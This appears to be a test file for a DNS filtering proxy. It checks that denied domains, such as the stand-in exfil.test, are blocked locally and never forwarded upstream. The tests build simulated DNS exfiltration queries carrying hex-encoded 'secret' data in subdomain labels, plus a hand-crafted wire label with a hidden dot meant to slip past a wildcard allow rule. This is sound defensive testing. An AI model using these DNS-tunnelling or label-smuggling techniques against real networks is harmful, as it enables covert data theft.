/**
 * Attack: use DNS to carry data out through a denied domain (queries to
 * <data>.exfil.test reach the attacker's authoritative server via the upstream).
 * Defence: a denied name is answered by the door and never sent upstream.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DnsSetup, decode, query, setupDns, status, udpExchange } from '../support/dns.js';

let s: DnsSetup;

beforeAll(async () => {
  s = await setupDns({
    upstream: { records: { 'allowed.test': [{ type: 'A', data: '127.0.0.9' }], 'exfil.test': [{ type: 'A', data: '127.0.0.66' }] } },
    devboxes: { '127.0.0.2': ['allowed.test', '*.ok.allowed.test'] },
  });
});
afterAll(() => s.close());

const upstreamSaw = (fragment: string) => s.up.queries.filter((q) => q.includes(fragment));

describe('a denied name never reaches the upstream', () => {
  it('answers NXDOMAIN with EDE 15 "Blocked" naming the policy', async () => {
    const out = await s.dig('127.0.0.2', 'exfil.test', 'A');
    expect(status(out)).toBe('NXDOMAIN');
    expect(out).toMatch(/EDE: 15 \(Blocked\)/);
    expect(out).toContain(s.policies['127.0.0.2']!);
    expect(upstreamSaw('exfil')).toEqual([]);
  });

  it('random data-carrying subdomains of a denied zone, every type, UDP and TCP', async () => {
    const labels = Array.from({ length: 12 }, (_, i) => `${Buffer.from(`secret-${i}-${Math.random()}`).toString('hex').slice(0, 40)}.c${i}`);
    const types = ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'SRV', 'HTTPS', 'NULL', 'ANY'];
    const outs = await Promise.all(labels.map((l, i) => s.dig('127.0.0.2', ...(i % 2 ? ['+tcp'] : []), `${l}.exfil.test`, types[i % types.length]!)));
    for (const out of outs) {
      expect(status(out)).toBe('NXDOMAIN');
      expect(out).toMatch(/EDE: 15 \(Blocked\)/);
    }
    expect(upstreamSaw('exfil')).toEqual([]);
    expect(upstreamSaw('secret')).toEqual([]);
  });

  it('an allowed apex does not open its subdomains (only the wildcard entry does)', async () => {
    const out = await s.dig('127.0.0.2', 'data123.allowed.test', 'TXT');
    expect(status(out)).toBe('NXDOMAIN');
    expect(upstreamSaw('data123')).toEqual([]);
  });

  it('without EDNS the denial is a plain NXDOMAIN (no OPT record)', async () => {
    const out = await s.dig('127.0.0.2', '+noedns', 'x.exfil.test', 'A');
    expect(status(out)).toBe('NXDOMAIN');
    expect(out).not.toMatch(/EDE/);
    expect(out).not.toMatch(/OPT PSEUDOSECTION/);
  });

  it('a label hiding a dot ("evil.x" inside *.ok.allowed.test) is denied, not forwarded', async () => {
    // Wire labels ["a.exfil", "ok", "allowed", "test"]: as text it would match *.ok.allowed.test.
    const q = query('zz.ok.allowed.test', 'A', { edns: true });
    const hacked = Buffer.concat([q.subarray(0, 12), Buffer.from([7]), Buffer.from('a.exfil'), q.subarray(15)]);
    const reply = await udpExchange(s.port, '127.0.0.2', hacked);
    expect(reply).not.toBeNull();
    expect(decode(reply!).rcode).toBe('NXDOMAIN');
    expect(upstreamSaw('exfil')).toEqual([]);
  });

  it('reverse lookups of private and devbox address space are answered locally', async () => {
    for (const ip of ['10.1.2.3', '192.168.7.7', '127.0.0.2', '172.20.0.1']) {
      const out = await s.dig('127.0.0.2', '-x', ip);
      expect(status(out)).toBe('NXDOMAIN');
    }
    const v6 = await s.dig('127.0.0.2', '-x', 'fd00::1');
    expect(status(v6)).toBe('NXDOMAIN');
    expect(upstreamSaw('arpa')).toEqual([]);
  });

  it('--dns-deny-rcode refused answers REFUSED, still with EDE 15', async () => {
    const r = await setupDns({
      upstream: { records: {} },
      devboxes: { '127.0.0.2': ['allowed.test'] },
      flags: { 'dns-deny-rcode': 'refused' },
    });
    try {
      const out = await r.dig('127.0.0.2', 'exfil.test', 'A');
      expect(status(out)).toBe('REFUSED');
      expect(out).toMatch(/EDE: 15 \(Blocked\)/);
      expect(r.up.queries).toEqual([]);
    } finally {
      await r.close();
    }
  });

  it('the allowed name itself is forwarded (the upstream is reachable)', async () => {
    const out = await s.dig('127.0.0.2', 'allowed.test', 'A');
    expect(status(out)).toBe('NOERROR');
    expect(upstreamSaw('allowed.test/A')).toHaveLength(1);
  });
});
